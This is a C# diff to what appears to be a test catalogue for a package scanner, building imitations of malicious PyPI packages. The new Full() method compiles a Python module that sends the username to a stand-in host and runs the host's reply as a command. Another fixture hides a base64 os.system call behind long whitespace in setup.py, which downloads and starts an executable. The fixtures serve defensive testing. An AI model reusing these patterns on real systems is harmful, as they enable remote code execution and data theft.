@@ -1,3 +1,4 @@
+using PackageWall.Testing.PythonBytecode;
 using static PackageWall.Testing.Catalogue.Package;
 
 namespace PackageWall.Testing.Catalogue;
@@ -201,7 +202,7 @@ internal static class PyPiEarlyAttacks
 
                 get_path()
 
-                """), ("fshec_like/full.pyc", Pyc("urllib.request", "urlopen", "subprocess", "check_output", "getpass", "http://192.0.2.213:5000/api/v1/collect")))) { Twin = PyPiTwins.DataFile };
+                """), ("fshec_like/full.pyc", Full()))) { Twin = PyPiTwins.DataFile };
 
         yield return new("vmconnect", "VMConnect, pytoileur", "B03 B04", Wheel("vm_connect_like", "1.0.4", ("vm_connect_like/__init__.py", $"""
             import base64
@@ -219,23 +220,13 @@ internal static class PyPiEarlyAttacks
         yield return new("pytoileur", "VMConnect, pytoileur", "B32 B03 B04", Setup("pytoileur-like", "VERSION = '1.0.1'" + new string(' ', 240) + ";__import__('os').system(__import__('base64').b64decode('" + Encodings.Base64("powershell -c \"iwr http://192.0.2.107:8000/Runtime.exe -o $env:TEMP/Runtime.exe; Start-Process $env:TEMP/Runtime.exe\"") + "').decode())\n")) { Twin = PyPiTwins.Setup };
     }
 
-    /// <summary>A compiled module of constants only, as CPython 3.12 marshals one: magic, no flags, and a code object that names what it would call.</summary>
-    private static byte[] Pyc(params string[] names)
+    /// <summary>The compiled module that the source only loads, as CPython 3.12 writes one: it tells a host who is there and runs what the host answers.</summary>
+    private static byte[] Full()
     {
-        List<byte> bytes = [0xcb, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
-        Code(Tuple([.. names.Select(Ascii)]));
-        return [.. bytes];
-
-        void Code(byte[] constants)
-        {
-            bytes.Add(0xe3);
-            bytes.AddRange(new byte[16]); // arguments, positional only, keyword only, stack size
-            bytes.AddRange(new byte[4]); // flags
-            bytes.AddRange([.. Bytes([0x97, 0, 0x79, 0]), .. constants, .. Tuple([.. names.Select(Ascii)]), .. Tuple([]), .. Bytes([]), .. Ascii("full.py"), .. Ascii("<module>"), .. Ascii("<module>"), 1, 0, 0, 0, .. Bytes([]), .. Bytes([])]);
-        }
-
-        static byte[] Ascii(string text) => [0x7a, (byte)text.Length, .. System.Text.Encoding.ASCII.GetBytes(text)];
-        static byte[] Tuple(byte[][] items) => [0x29, (byte)items.Length, .. items.SelectMany(item => item)];
-        static byte[] Bytes(byte[] value) => [0x73, .. BitConverter.GetBytes(value.Length), .. value];
+        const string host = "http://192.0.2.213:5000/api/v1/collect?user=";
+        CompiledPython body = new CompiledPython(12)
+            .Callee("urllib.request.urlopen").Constant(host).Callee("getpass.getuser").Called(0).Plus().Called(1).Drop()
+            .Callee("subprocess.check_output").Callee("urllib.request.urlopen").Constant(host).Called(1).Attribute("text").Called(1).Drop();
+        return new CompiledPython(12).Import("getpass").Import("subprocess").Import("urllib.request").Function("get_path", body).File();
     }
 }
